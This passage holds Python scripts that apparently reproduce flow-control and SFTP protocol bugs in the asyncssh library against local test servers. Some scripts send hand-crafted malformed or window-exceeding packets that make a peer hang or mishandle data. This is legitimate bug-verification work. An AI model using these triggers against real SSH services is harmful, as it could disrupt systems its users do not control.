    server = await asyncssh.listen(
        '127.0.0.1', 0, server_host_keys=[skey],
        process_factory=handle_process,
        server_factory=type('S', (asyncssh.SSHServer,), {
            'begin_auth': lambda self, username: False}))

    port = server.sockets[0].getsockname()[1]

    conn = await asyncssh.connect('127.0.0.1', port, known_hosts=None,
                                  username='u', client_keys=None)

    # Asking for a terminal enables the server's line editor
    proc = await conn.create_process('cmd', term_type='ansi')

    # Ctrl-D twice: one soft EOF for each of the two reads
    proc.stdin.write('\x04')
    await asyncio.sleep(0.2)
    proc.stdin.write('\x04')

    result = await asyncio.wait_for(proc.wait(), 10)

    conn.close()
    server.close()

    rc = 0

    for line in result.stderr.splitlines():
        if 'returned' in line:
            print('VIOLATION:', line, '-- on a soft EOF')
            rc = 1
        else:
            print('OK:', line)

    return rc


if __name__ == '__main__':
    try:
        sys.exit(asyncio.run(asyncio.wait_for(main(), 60)))
    except asyncio.TimeoutError:
        print('VIOLATION: demo hung')
        sys.exit(2)
