#!/venv/bin/python
"""C19 demo 6: a read which is cancelled (timed out) while it waits for more
data throws away the data it had already collected, so the stream the
application sees is no longer the stream which was sent.

SSHStreamSession.read() (used by read(n), read() and readexactly(n)) pops
chunks off the receive buffer into a local list *before* it knows whether it
can complete, and then awaits more data.  If the caller gives up --
asyncio.wait_for(reader.readexactly(n), timeout) is the usual way to read
"with a timeout" -- the CancelledError unwinds the coroutine and the local
list goes with it.  readuntil()/readline() don't have the problem (they
leave the receive buffer alone until they have a match), neither does
asyncio.StreamReader.readexactly().

Sent:      'abcd'  <pause>  'efgh'  EOF
Read as:   readexactly(8) with a timeout which expires during the pause,
           then readexactly(8) again.
Expected:  'abcdefgh'.
"""

import asyncio
import sys

import asyncssh


async def handle_process(process):
    """Server side: send a record in two parts"""

    process.stdout.write('abcd')
    await process.stdin.readline()
    process.stdout.write('efgh')
    process.exit(0)


async def main() -> int:
    skey = asyncssh.generate_private_key('ssh-ed25519')

    server = await asyncssh.listen(
        '127.0.0.1', 0, server_host_keys=[skey],
        process_factory=handle_process,
        server_factory=type('S', (asyncssh.SSHServer,), {
            'begin_auth': lambda self, username: False}))

    port = server.sockets[0].getsockname()[1]

    conn = await asyncssh.connect('127.0.0.1', port, known_hosts=None,
                                  username='u', client_keys=None)

    proc = await conn.create_process('cmd')

    try:
        record = await asyncio.wait_for(proc.stdout.readexactly(8), 0.5)
        print('unexpected: first read returned', repr(record))
    except asyncio.TimeoutError:
        print('readexactly(8) timed out with only 4 characters sent '
              '(as it should)')

    # Tell the remote side to send the second half
    proc.stdin.write('go\n')

    try:
        record = await asyncio.wait_for(proc.stdout.readexactly(8), 5)
    except asyncio.IncompleteReadError as exc:
        record = exc.partial
        print(f'second readexactly(8): IncompleteReadError, partial = '
              f'{record!r}')
    else:
        print(f'second readexactly(8) returned {record!r}')

    rest = await asyncio.wait_for(proc.stdout.read(), 5)
    everything = record + rest

    conn.close()
    server.close()

    if everything == 'abcdefgh':
        print('all the data sent was delivered: OK')
        return 0
    else:
        print(f'VIOLATION: sent "abcdefgh", the reads delivered '
              f'{everything!r} in total -- the part collected by the '
              'timed-out read is gone')
        return 1


if __name__ == '__main__':
    try:
        sys.exit(asyncio.run(asyncio.wait_for(main(), 60)))
    except asyncio.TimeoutError:
        print('VIOLATION: demo hung')
        sys.exit(2)
