"""Data beyond the advertised window is accepted after a local close()/abort()
threw away data which was buffered for a paused reader.

_discard_recv() zeroes _recv_buf_len without consuming the receive window for
the discarded bytes, so the endpoint's idea of the remaining window jumps
from 0 back to the full window although no WINDOW_ADJUST was ever sent.

Server session window is 64, reader paused.  The peer sends 64 bytes (fills
the window, no WINDOW_ADJUST comes back).

  control: the peer now sends 64 bytes more       -> 'Window exceeded' (good)
  case:    the application calls chan.close() and the peer, which has not
           seen the CLOSE yet and has been granted no window, sends 64 bytes
           more                                    -> must be 'Window exceeded'

Expected by the property: excess over the advertised window is a protocol
error in both runs.
"""

import asyncio
import sys

import asyncssh
from asyncssh.constants import MSG_CHANNEL_DATA, MSG_CHANNEL_WINDOW_ADJUST
from asyncssh.packet import String

WINDOW = 64
TIMEOUT = 3.0

server_chans = []
server_lost = []


class ServerSession(asyncssh.SSHServerSession):
    def connection_made(self, chan):
        self._chan = chan

    def shell_requested(self):
        return True

    def session_started(self):
        server_chans.append(self._chan)

    def data_received(self, data, datatype):
        pass


class Server(asyncssh.SSHServer):
    def begin_auth(self, username):
        return False

    def session_requested(self):
        return ServerSession()

    def connection_lost(self, exc):
        server_lost.append(exc)


class ClientSession(asyncssh.SSHClientSession):
    pass


async def wait_until(cond, what):
    for _ in range(int(TIMEOUT / 0.01)):
        if cond():
            return
        await asyncio.sleep(0.01)

    print('SETUP PROBLEM: timed out waiting for', what)
    sys.exit(2)


async def run(port, close_first):
    del server_chans[:]
    del server_lost[:]

    conn = await asyncio.wait_for(
        asyncssh.connect('127.0.0.1', port, known_hosts=None,
                         username='user', client_keys=None), TIMEOUT)

    cchan, _ = await asyncio.wait_for(
        conn.create_session(ClientSession, encoding=None), TIMEOUT)

    await wait_until(lambda: server_chans, 'server session')
    schan = server_chans[0]
    assert schan.get_recv_window() == WINDOW

    # Count the window the server grants beyond the initial one
    granted = []
    orig_send_packet = schan.send_packet

    def send_packet(pkttype, *args):
        if pkttype == MSG_CHANNEL_WINDOW_ADJUST and schan._send_chan is not None:
            granted.append(int.from_bytes(args[0], 'big'))

        orig_send_packet(pkttype, *args)

    schan.send_packet = send_packet

    await asyncio.sleep(0.05)           # let the 'shell' start-up settle
    schan.pause_reading()

    cchan.write(b'a' * WINDOW)          # exactly the advertised window
    await wait_until(lambda: schan._recv_buf_len == WINDOW,
                     'window-full of data buffered for the paused reader')
    assert cchan._send_window == 0 and not granted

    if close_first:
        schan.close()                   # discards the 64 buffered bytes

    # The peer ignores the (exhausted) window.  It hasn't processed the
    # server's CLOSE yet, as no event loop iteration has happened since.
    cchan.send_packet(MSG_CHANNEL_DATA, String(b'b' * WINDOW))

    await wait_until(lambda: server_lost or
                     (close_first and schan._recv_chan is None),
                     'server to deal with the excess data')
    await asyncio.sleep(0.1)

    exc = server_lost[0] if server_lost else None
    window_granted = sum(granted)

    conn.abort()
    return exc, window_granted


async def main():
    key = asyncssh.generate_private_key('ssh-ed25519')
    server = await asyncssh.create_server(Server, '127.0.0.1', 0,
                                          server_host_keys=[key],
                                          encoding=None, window=WINDOW)
    port = server.sockets[0].getsockname()[1]

    exc, granted = await run(port, close_first=False)
    print('control (reader paused): %d+%d bytes sent, %d granted -> %r' %
          (WINDOW, WINDOW, WINDOW + granted, exc))

    if not (isinstance(exc, asyncssh.ProtocolError) and
            'Window exceeded' in str(exc)):
        print('SETUP PROBLEM: control did not give Window exceeded')
        return 2

    exc, granted = await run(port, close_first=True)
    print('case (paused, then close()): %d+%d bytes sent, %d granted -> %r' %
          (WINDOW, WINDOW, WINDOW + granted, exc))

    server.close()

    if isinstance(exc, asyncssh.ProtocolError) and \
            'Window exceeded' in str(exc):
        print('OK: excess data was a protocol error')
        return 0
    else:
        print('FAIL: %d bytes beyond the advertised window were accepted '
              'without a protocol error after close() discarded the '
              'receive buffer' % WINDOW)
        return 1


sys.exit(asyncio.run(asyncio.wait_for(main(), 30)))
