"""SSHClientProcess.collect_output() ("intended to be called instead of
read()") empties the stream buffer without accounting for it and without
resuming the channel, so once the buffer has reached its limit (= the
channel window) the channel stays paused for good: an application which keeps
collecting output never sees anything after the first window of data, and
even a later stdout.read() blocks forever.

Client session window is 64.  The server process writes 64 bytes, and once the
client has collected them, 10 more bytes and exits.

Expected by the property: as the application keeps reading, the window is
replenished and all 74 bytes are delivered.
"""

import asyncio
import sys

import asyncssh

WINDOW = 64
TIMEOUT = 3.0

more = None


class Server(asyncssh.SSHServer):
    def begin_auth(self, username):
        return False


async def handler(process):
    process.stdout.write(b'x' * WINDOW)
    await more.wait()
    process.stdout.write(b'0123456789')
    process.exit(0)


async def main():
    global more
    more = asyncio.Event()

    key = asyncssh.generate_private_key('ssh-ed25519')
    server = await asyncssh.create_server(Server, '127.0.0.1', 0,
                                          server_host_keys=[key],
                                          process_factory=handler,
                                          encoding=None)
    port = server.sockets[0].getsockname()[1]

    conn = await asyncio.wait_for(
        asyncssh.connect('127.0.0.1', port, known_hosts=None,
                         username='user', client_keys=None), TIMEOUT)

    proc = await asyncio.wait_for(
        conn.create_process(encoding=None, window=WINDOW), TIMEOUT)

    # Wait for the first window of output to sit in the stream buffer
    for _ in range(300):
        if proc._recv_buf_len >= WINDOW:
            break
        await asyncio.sleep(0.01)
    else:
        print('SETUP PROBLEM: first %d bytes never arrived' % WINDOW)
        return 2

    collected = b''

    out, _ = proc.collect_output()
    collected += out
    more.set()

    # An application which keeps collecting output without blocking
    for _ in range(int(TIMEOUT / 0.01)):
        out, _ = proc.collect_output()
        collected += out

        if len(collected) == WINDOW + 10:
            break

        await asyncio.sleep(0.01)

    rc = 0

    if len(collected) != WINDOW + 10:
        rc = 1
        print('FAIL: kept calling collect_output() for %.0fs but got only %d '
              'of %d bytes' % (TIMEOUT, len(collected), WINDOW + 10))
        print('      stream buffer is empty (%r) but recv_buf_len=%d, '
              'limit=%d, read_paused=%r; channel recv_paused=%r holds %d '
              'undelivered bytes' %
              (proc._recv_buf[None], proc._recv_buf_len, proc._limit,
               proc._read_paused, proc.channel._recv_paused,
               proc.channel._recv_buf_len))

        try:
            data = await asyncio.wait_for(proc.stdout.read(100), 1.0)
            print('      a blocking stdout.read(100) then returned %r' % data)
        except asyncio.TimeoutError:
            print('      a blocking stdout.read(100) afterwards hangs as well')
    else:
        print('OK: collected all %d bytes' % len(collected))

    conn.abort()
    server.close()
    return rc


sys.exit(asyncio.run(asyncio.wait_for(main(), 30)))
