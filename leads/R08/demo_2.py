"""Stream reader: readline()/readuntil() never resumes a channel which was
paused at the buffer limit when the buffered data is followed by a signal,
so a reader which keeps calling readline() hangs forever and the client's
later data is never delivered.

Server session window is 64.  The client sends 64 bytes without a newline
(fills the stream buffer, stream pauses the channel), then a signal, then
later a complete line b'more\\n'.  The server application does nothing but
call stdin.readline() in a loop (handling SignalReceived).

Expected by the property: as the application keeps reading, the window is
replenished and the line b'more\\n' is eventually delivered.
"""

import asyncio
import sys

import asyncssh

WINDOW = 64
TIMEOUT = 3.0

events = []
stdin_holder = []
started = None
go = None
done = None


class Server(asyncssh.SSHServer):
    def begin_auth(self, username):
        return False


async def handler(stdin, stdout, stderr):
    stdin_holder.append(stdin)
    started.set()
    await go.wait()

    # An application which keeps reading lines
    while True:
        try:
            line = await stdin.readline()
        except asyncssh.SignalReceived as exc:
            events.append(('signal', exc.signal))
            continue

        events.append(('line', line))

        if not line or line == b'more\n':
            break

    done.set()


async def wait_until(cond, what):
    for _ in range(int(TIMEOUT / 0.01)):
        if cond():
            return
        await asyncio.sleep(0.01)

    print('SETUP PROBLEM: timed out waiting for', what)
    sys.exit(2)


async def main():
    global started, go, done
    started, go, done = asyncio.Event(), asyncio.Event(), asyncio.Event()

    key = asyncssh.generate_private_key('ssh-ed25519')
    server = await asyncssh.create_server(Server, '127.0.0.1', 0,
                                          server_host_keys=[key],
                                          session_factory=handler,
                                          encoding=None, window=WINDOW)
    port = server.sockets[0].getsockname()[1]

    conn = await asyncio.wait_for(
        asyncssh.connect('127.0.0.1', port, known_hosts=None,
                         username='user', client_keys=None), TIMEOUT)

    writer, reader, _ = await asyncio.wait_for(
        conn.open_session(encoding=None), TIMEOUT)

    await asyncio.wait_for(started.wait(), TIMEOUT)
    session = stdin_holder[0]._session
    schan = stdin_holder[0].channel

    assert schan.get_recv_window() == WINDOW

    # 1. A window full of data without a newline, then a signal
    writer.write(b'x' * WINDOW)
    writer.channel.send_signal('INT')

    await wait_until(lambda: len(session._recv_buf[None]) == 2,
                     'data + signal to reach the server stream')

    # 2. The application starts its readline() loop
    go.set()

    await wait_until(lambda: len(events) >= 2, 'partial line and signal')

    # 3. The client sends one more complete line
    writer.write(b'more\n')

    try:
        await asyncio.wait_for(done.wait(), TIMEOUT)
        rc = 0
        print('OK: application received', events)
    except asyncio.TimeoutError:
        rc = 1
        print('FAIL: application is blocked in readline() after receiving '
              '%r' % [(k, v if k == 'signal' else len(v)) for k, v in events])
        print('      line b"more\\n" never delivered after %.0fs: stream '
              'read_paused=%r with %d bytes buffered (limit %d); channel '
              'recv_paused=%r holding %d undelivered bytes' %
              (TIMEOUT, session._read_paused, session._recv_buf_len,
               session._limit, schan._recv_paused, schan._recv_buf_len))

    conn.abort()
    server.close()
    return rc


sys.exit(asyncio.run(asyncio.wait_for(main(), 30)))
