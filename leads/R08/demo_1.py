"""TUN/TAP channel: whole-packet sending deadlocks against the lazy window
adjust of the receiver, although the receiving application keeps reading.

Receiver (asyncssh server) advertises window=100, max packet size=100 on a
layer 2 tunnel channel and reads every packet as soon as it arrives.  The
sender writes a 45 byte packet and then a 60 byte packet (both <= the max
packet size, both <= the window).

Expected by the property: both packets are delivered.
"""

import asyncio
import sys

import asyncssh

WINDOW = 100
PKTSIZE = 100
TIMEOUT = 3.0


class Server(asyncssh.SSHServer):
    received = []
    done = None

    def connection_made(self, conn):
        self._conn = conn

    def begin_auth(self, username):
        return False

    def tap_requested(self, unit):
        chan = self._conn.create_tuntap_channel(window=WINDOW,
                                                max_pktsize=PKTSIZE)
        return chan, self._handle

    async def _handle(self, reader, writer):
        # A receiving application which never stops reading
        while True:
            pkt = await reader.read()

            if not pkt:
                break

            Server.received.append(len(pkt))

            if len(Server.received) == 2:
                Server.done.set()


async def main():
    Server.done = asyncio.Event()

    key = asyncssh.generate_private_key('ssh-ed25519')
    server = await asyncssh.create_server(Server, '127.0.0.1', 0,
                                          server_host_keys=[key])
    port = server.sockets[0].getsockname()[1]

    conn = await asyncio.wait_for(
        asyncssh.connect('127.0.0.1', port, known_hosts=None,
                         username='user', client_keys=None), TIMEOUT)

    reader, writer = await asyncio.wait_for(conn.open_tap(), TIMEOUT)
    chan = writer.channel

    writer.write(b'a' * 45)
    writer.write(b'b' * 60)

    try:
        await asyncio.wait_for(Server.done.wait(), TIMEOUT)
        rc = 0
        print('OK: both packets delivered:', Server.received)
    except asyncio.TimeoutError:
        rc = 1
        print('FAIL: receiver kept reading, but after %.0fs only these packet '
              'sizes were delivered: %r (expected [45, 60])' %
              (TIMEOUT, Server.received))
        print('      sender: send_window=%d send_pktsize=%d, %d bytes still '
              'buffered, waiting for a WINDOW_ADJUST which never comes' %
              (chan._send_window, chan._send_pktsize,
               chan.get_write_buffer_size()))

    conn.abort()
    server.close()
    return rc


sys.exit(asyncio.run(asyncio.wait_for(main(), 30)))
