"""C14 demo 1: timestamps before 1970 cannot be encoded (SFTPv4-6 times are int64)

Expected by the property: an attribute block a protocol version can carry
survives encode/decode unchanged, and a STAT of an existing file is answered
with FXP_ATTRS. SFTPv4-6 define atime/createtime/mtime/ctime as *int64*
(signed), so a time before the epoch is a legal value.

Observed: SFTPAttrs.encode() uses UInt64() for the times, which raises
OverflowError for a negative value. On a server, stat/lstat/fstat of a file
whose mtime is before 1970 (and READDIR of the directory holding it) is
answered with FX_FAILURE "Uncaught exception: can't convert negative int to
unsigned" at every version.
"""

import asyncio, os, shutil, sys, tempfile

import asyncssh
from asyncssh.packet import SSHPacket

HERE = os.path.dirname(os.path.abspath(__file__))
failures = []


class Srv(asyncssh.SSHServer):
    def begin_auth(self, username):
        return False


def check_roundtrip():
    for version in (4, 5, 6):
        attrs = asyncssh.SFTPAttrs(atime=-86400, atime_ns=0,
                                   mtime=-86400, mtime_ns=0)
        try:
            data = attrs.encode(version)
            back = asyncssh.SFTPAttrs.decode(SSHPacket(data), version)
        except Exception as exc:
            failures.append(f'v{version}: SFTPAttrs(mtime=-86400).encode() '
                            f'raised {type(exc).__name__}: {exc}')
            continue

        if (back.atime, back.mtime) != (-86400, -86400):
            failures.append(f'v{version}: times came back as '
                            f'{back.atime}, {back.mtime}')


async def check_live(root):
    path = os.path.join(root, 'old')

    with open(path, 'wb') as f:
        f.write(b'data')

    os.utime(path, (-86400, -86400))        # 1969-12-31
    assert os.stat(path).st_mtime == -86400

    key = asyncssh.generate_private_key('ssh-ed25519')
    server = await asyncssh.listen(
        '127.0.0.1', 0, server_factory=Srv, server_host_keys=[key],
        sftp_factory=lambda chan: asyncssh.SFTPServer(chan,
                                                      chroot=root.encode()),
        sftp_version=6)
    port = server.sockets[0].getsockname()[1]

    try:
        for version in (3, 4, 5, 6):
            async with asyncssh.connect('127.0.0.1', port, known_hosts=None,
                                        username='u') as conn:
                sftp = await asyncio.wait_for(
                    conn.start_sftp_client(sftp_version=version), 10)

                try:
                    attrs = await asyncio.wait_for(sftp.stat('/old'), 10)
                except asyncssh.SFTPError as exc:
                    failures.append(f'v{version}: stat of a file dated 1969 '
                                    f'failed: {type(exc).__name__}: {exc}')
                else:
                    if version >= 4 and attrs.mtime != -86400:
                        failures.append(f'v{version}: stat returned mtime '
                                        f'{attrs.mtime}, wanted -86400')

                try:
                    names = await asyncio.wait_for(sftp.listdir('/'), 10)
                except asyncssh.SFTPError as exc:
                    failures.append(f'v{version}: listing the directory '
                                    f'holding it failed: '
                                    f'{type(exc).__name__}: {exc}')
                else:
                    if 'old' not in names:
                        failures.append(f'v{version}: listing lacks "old": '
                                        f'{names}')
    finally:
        server.close()
        await server.wait_closed()


async def main():
    check_roundtrip()

    root = tempfile.mkdtemp(dir=HERE, prefix='demo1_')

    try:
        await asyncio.wait_for(check_live(root), 60)
    finally:
        shutil.rmtree(root, ignore_errors=True)


asyncio.run(main())

if failures:
    print('VIOLATION: times before the epoch are not carried')
    for failure in failures:
        print('  ' + failure)
    sys.exit(1)

print('ok')
