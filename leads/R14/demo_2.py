"""C14 demo 2: a malformed FXP_EXTENDED_REPLY body leaks PacketDecodeError

Expected by the property: a reply with the right id and of the expected type
but with a truncated body or trailing bytes makes the call fail with an
SFTPError (SFTPBadMessage), as SFTPClientHandler._make_request() now does
for STATUS/HANDLE/DATA/NAME/ATTRS.

Observed: bodies of FXP_EXTENDED_REPLY are decoded by the callers of
_make_request() (statvfs, fstatvfs, request_limits, request_ranges), outside
its try block, so the decoder's internal PacketDecodeError (a ValueError)
reaches the application. The limits@openssh.com case is raised out of
SSHClientConnection.start_sftp_client() itself.

The peer is a hand-driven SFTP server (a custom SSHServerSession).
"""

import asyncio, sys

import asyncssh
from asyncssh.constants import FXP_VERSION, FXP_EXTENDED, FXP_EXTENDED_REPLY
from asyncssh.constants import FXP_OPEN, FXP_HANDLE, FXP_STATUS
from asyncssh.packet import Byte, String, UInt32, UInt64, SSHPacket

EXTS = [(b'statvfs@openssh.com', b'2'), (b'fstatvfs@openssh.com', b'2'),
        (b'limits@openssh.com', b'1'), (b'ranges@asyncssh.com', b'1')]

GOOD_LIMITS = UInt64(0) * 4
GOOD_VFS = UInt64(1) * 11


class FakeSFTP(asyncssh.SSHServerSession):
    """SFTPv3 server which answers extended requests with canned bodies"""

    def __init__(self, bodies):
        self._bodies = bodies
        self._buf = b''
        self._started = False

    def connection_made(self, chan):
        self._chan = chan

    def subsystem_requested(self, subsystem):
        return subsystem == 'sftp'

    def _send(self, payload):
        self._chan.write(UInt32(len(payload)) + payload)

    def data_received(self, data, datatype):
        self._buf += data

        while len(self._buf) >= 4:
            pktlen = int.from_bytes(self._buf[:4], 'big')

            if len(self._buf) < 4 + pktlen:
                break

            packet = SSHPacket(self._buf[4:4+pktlen])
            self._buf = self._buf[4+pktlen:]
            self._process(packet)

    def _process(self, packet):
        pkttype = packet.get_byte()

        if not self._started:
            self._started = True
            self._send(Byte(FXP_VERSION) + UInt32(3) +
                       b''.join(String(n) + String(d) for n, d in EXTS))
            return

        pktid = packet.get_uint32()

        if pkttype == FXP_EXTENDED:
            name = packet.get_string()
            self._send(Byte(FXP_EXTENDED_REPLY) + UInt32(pktid) +
                       self._bodies[name])
        elif pkttype == FXP_OPEN:
            self._send(Byte(FXP_HANDLE) + UInt32(pktid) + String(b'h'))
        else:
            self._send(Byte(FXP_STATUS) + UInt32(pktid) + UInt32(0) +
                       String('') + String(''))


class Srv(asyncssh.SSHServer):
    bodies = {}

    def begin_auth(self, username):
        return False

    def session_requested(self):
        return FakeSFTP(Srv.bodies)


async def attempt(port, label, call):
    """Return None if call behaved per the property, else a description"""

    async with asyncssh.connect('127.0.0.1', port, known_hosts=None,
                                username='u') as conn:
        try:
            sftp = await asyncio.wait_for(conn.start_sftp_client(), 10)
            await asyncio.wait_for(call(sftp), 10)
        except asyncssh.SFTPError as exc:
            print(f'  {label}: {type(exc).__name__}: {exc}  (fine)')
            return None
        except Exception as exc:
            return (f'{label}: raised {type(exc).__module__}.'
                    f'{type(exc).__name__}({exc}) '
                    f'[mro: {[c.__name__ for c in type(exc).__mro__[:3]]}] '
                    f'instead of an SFTPError')
        else:
            return f'{label}: malformed reply was accepted'


async def do_fstatvfs(sftp):
    f = await sftp.open('f')
    await f.statvfs()


async def do_ranges(sftp):
    f = await sftp.open('f')
    async for _ in f.request_ranges(0, 100):
        pass


CASES = [
    ('statvfs, reply one byte short',
     {b'statvfs@openssh.com': GOOD_VFS[:-1]}, lambda s: s.statvfs('/')),
    ('statvfs, reply with one trailing byte',
     {b'statvfs@openssh.com': GOOD_VFS + b'\0'}, lambda s: s.statvfs('/')),
    ('fstatvfs, empty reply',
     {b'fstatvfs@openssh.com': b''}, do_fstatvfs),
    ('ranges, count says 2 but one range present',
     {b'ranges@asyncssh.com': UInt32(2) + UInt64(0) + UInt64(1)}, do_ranges),
    ('limits (inside start_sftp_client), 3 of 4 fields',
     {b'limits@openssh.com': UInt64(0) * 3}, lambda s: s.statvfs('/')),
    ('limits (inside start_sftp_client), trailing byte',
     {b'limits@openssh.com': GOOD_LIMITS + b'x'}, lambda s: s.statvfs('/')),
]


async def main():
    key = asyncssh.generate_private_key('ssh-ed25519')
    server = await asyncssh.listen('127.0.0.1', 0, server_factory=Srv,
                                   server_host_keys=[key], encoding=None)
    port = server.sockets[0].getsockname()[1]
    failures = []

    try:
        for label, bodies, call in CASES:
            Srv.bodies = {b'limits@openssh.com': GOOD_LIMITS,
                          b'statvfs@openssh.com': GOOD_VFS,
                          b'fstatvfs@openssh.com': GOOD_VFS}
            Srv.bodies.update(bodies)

            result = await asyncio.wait_for(attempt(port, label, call), 30)

            if result:
                failures.append(result)
    finally:
        server.close()
        await server.wait_closed()

    return failures


failures = asyncio.run(main())

if failures:
    print('VIOLATION: malformed extended replies do not raise SFTPError')
    for failure in failures:
        print('  ' + failure)
    sys.exit(1)

print('ok')
