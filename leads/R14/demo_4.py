"""C14 demo 4: server agrees to SFTP version 0/1/2 and then answers in no version

Expected by the property: every request gets a reply whose body is legal for
the negotiated version, attribute blocks survive encode/decode, and a
well-formed request is not failed for internal reasons. asyncssh implements
versions 3-6 only (MIN_SFTP_VERSION = 3; the client rejects anything else).

Observed: SFTPServerHandler.run() computes min(client version, own version)
with no lower bound. A client whose FXP_INIT says version 2 (or 1, or 0)
gets FXP_VERSION 2 back, after which
  * FXP_ATTRS replies carry the v4+ flag bits (OWNERGROUP 0x80, 64-bit
    ACCESSTIME/MODIFYTIME, SUBSECOND 0x100) without the v4 type byte - a
    layout that is legal in no version (SFTPAttrs.encode tests '== 3');
  * FXP_NAME entries lack the longname string required up to v3;
  * every request containing an attribute block (OPEN, SETSTAT, FSETSTAT,
    MKDIR) fails with FX_FAILURE "Uncaught exception: 2" (KeyError from
    _valid_attr_flags[version]), so no file can be opened at all.
(OpenSSH's sftp-server answers such a client with version 3.)
"""

import asyncio, os, shutil, sys, tempfile

import asyncssh
from asyncssh.constants import FXP_INIT, FXP_VERSION, FXP_OPEN, FXP_LSTAT
from asyncssh.constants import FXP_HANDLE, FXP_ATTRS, FXP_STATUS, FXF_READ
from asyncssh.constants import FXP_REALPATH, FXP_NAME
from asyncssh.packet import Byte, String, UInt32, SSHPacket, PacketDecodeError

HERE = os.path.dirname(os.path.abspath(__file__))


class Srv(asyncssh.SSHServer):
    def begin_auth(self, username):
        return False


async def probe(port, version, failures):
    async with asyncssh.connect('127.0.0.1', port, known_hosts=None,
                                username='u') as conn:
        writer, reader, _ = await conn.open_session(subsystem='sftp',
                                                    encoding=None)

        def send(payload):
            writer.write(UInt32(len(payload)) + payload)

        async def recv():
            pktlen = await asyncio.wait_for(reader.readexactly(4), 10)
            return SSHPacket(await asyncio.wait_for(
                reader.readexactly(int.from_bytes(pktlen, 'big')), 10))

        send(Byte(FXP_INIT) + UInt32(version))

        try:
            resp = await recv()
        except asyncio.IncompleteReadError:
            print(f'INIT {version}: session refused (fine)')
            return

        assert resp.get_byte() == FXP_VERSION
        agreed = resp.get_uint32()
        print(f'INIT {version}: server announced version {agreed}')

        if agreed >= 3:
            return

        failures.append(f'INIT {version}: server agreed to unimplemented '
                        f'version {agreed}')

        # LSTAT - attribute block must use the (<= v3) layout
        send(Byte(FXP_LSTAT) + UInt32(1) + String('/f'))
        resp = await recv()
        resptype, _ = resp.get_byte(), resp.get_uint32()

        if resptype == FXP_ATTRS:
            flags = resp.get_uint32()

            if flags & ~0x8000000f:
                failures.append(f'INIT {version}: LSTAT reply has attribute '
                                f'flags 0x{flags:08x}, bits outside the '
                                f'v0-v3 set 0x8000000f, and no type byte')
        else:
            failures.append(f'INIT {version}: LSTAT answered with type '
                            f'{resptype}')

        # REALPATH - name entries up to v3 are filename, longname, attrs
        send(Byte(FXP_REALPATH) + UInt32(2) + String('/f'))
        resp = await recv()
        resptype, _ = resp.get_byte(), resp.get_uint32()

        try:
            assert resptype == FXP_NAME
            assert resp.get_uint32() == 1
            resp.get_string()                   # filename
            resp.get_string()                   # longname
            resp.get_uint32()                   # attr flags
            resp.check_end()
        except (PacketDecodeError, AssertionError):
            failures.append(f'INIT {version}: REALPATH reply is not a '
                            f'filename/longname/attrs entry: '
                            f'{resp.get_full_payload()[5:]!r}')

        # OPEN of an existing file with an empty attribute block
        send(Byte(FXP_OPEN) + UInt32(3) + String('/f') + UInt32(FXF_READ) +
             UInt32(0))
        resp = await recv()
        resptype, _ = resp.get_byte(), resp.get_uint32()

        if resptype != FXP_HANDLE:
            code = resp.get_uint32()
            reason = resp.get_string()
            failures.append(f'INIT {version}: OPEN of an existing file '
                            f'failed with status {code} {reason!r}')


async def main():
    root = tempfile.mkdtemp(dir=HERE, prefix='demo4_')

    with open(os.path.join(root, 'f'), 'wb') as f:
        f.write(b'hello')

    key = asyncssh.generate_private_key('ssh-ed25519')

    server = await asyncssh.listen(
        '127.0.0.1', 0, server_factory=Srv, server_host_keys=[key],
        sftp_factory=lambda chan: asyncssh.SFTPServer(chan,
                                                      chroot=root.encode()))
    port = server.sockets[0].getsockname()[1]
    failures = []

    try:
        for version in (2, 1, 0):
            await probe(port, version, failures)
    finally:
        server.close()
        await server.wait_closed()
        shutil.rmtree(root, ignore_errors=True)

    return failures


async def run():
    return await asyncio.wait_for(main(), 60)

failures = asyncio.run(run())

if failures:
    print('VIOLATION: server negotiates a version below 3 it cannot speak')
    for failure in failures:
        print('  ' + failure)
    sys.exit(1)

print('ok')
