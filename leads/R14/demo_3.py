"""C14 demo 3: SFTPv6 server rejects REALPATH without the optional control byte

draft-ietf-secsh-filexfer-13, 8.9 (SSH_FXP_REALPATH):

    byte   SSH_FXP_REALPATH
    uint32 request-id
    string original-path [UTF-8]
    byte   control-byte [optional]
    string compose-path[0..n] [optional]

    "control-byte ... This field is optional, and if it is not present in
     the packet, it is assumed to be SSH_FXP_REALPATH_NO_CHECK."

Expected by the property: a well-formed request gets a reply of the type
legal for it (FXP_NAME here); only malformed bodies earn an error status.

Observed: SFTPServerHandler._process_realpath() does an unconditional
packet.get_byte() when the version is 6, so a v6 REALPATH that carries just
the path (what a non-asyncssh v6 client sends for "pwd") is answered with
FXP_STATUS / FX_BAD_MESSAGE "Incomplete packet". The same body is accepted
at versions 3-5.
"""

import asyncio, os, shutil, sys, tempfile

import asyncssh
from asyncssh.constants import FXP_INIT, FXP_VERSION, FXP_REALPATH
from asyncssh.constants import FXP_NAME, FXP_STATUS
from asyncssh.packet import Byte, String, UInt32, SSHPacket

HERE = os.path.dirname(os.path.abspath(__file__))


class Srv(asyncssh.SSHServer):
    def begin_auth(self, username):
        return False


async def realpath(port, version, body):
    async with asyncssh.connect('127.0.0.1', port, known_hosts=None,
                                username='u') as conn:
        writer, reader, _ = await conn.open_session(subsystem='sftp',
                                                    encoding=None)

        def send(payload):
            writer.write(UInt32(len(payload)) + payload)

        async def recv():
            pktlen = await asyncio.wait_for(reader.readexactly(4), 10)
            return SSHPacket(await asyncio.wait_for(
                reader.readexactly(int.from_bytes(pktlen, 'big')), 10))

        send(Byte(FXP_INIT) + UInt32(version))
        resp = await recv()
        assert resp.get_byte() == FXP_VERSION
        assert resp.get_uint32() == version

        send(Byte(FXP_REALPATH) + UInt32(42) + body)
        resp = await recv()
        resptype = resp.get_byte()
        respid = resp.get_uint32()
        assert respid == 42

        if resptype == FXP_NAME:
            count = resp.get_uint32()
            return 'NAME', resp.get_string() if count else None
        elif resptype == FXP_STATUS:
            code = resp.get_uint32()
            return 'STATUS', (code, resp.get_string())
        else:
            return f'type {resptype}', None


async def main():
    root = tempfile.mkdtemp(dir=HERE, prefix='demo3_')
    os.mkdir(os.path.join(root, 'sub'))
    key = asyncssh.generate_private_key('ssh-ed25519')

    server = await asyncssh.listen(
        '127.0.0.1', 0, server_factory=Srv, server_host_keys=[key],
        sftp_factory=lambda chan: asyncssh.SFTPServer(chan,
                                                      chroot=root.encode()),
        sftp_version=6)
    port = server.sockets[0].getsockname()[1]
    failures = []

    try:
        for version in (3, 4, 5, 6):
            kind, value = await realpath(port, version, String('/sub/..'))
            print(f'v{version} REALPATH(path only) -> {kind} {value}')

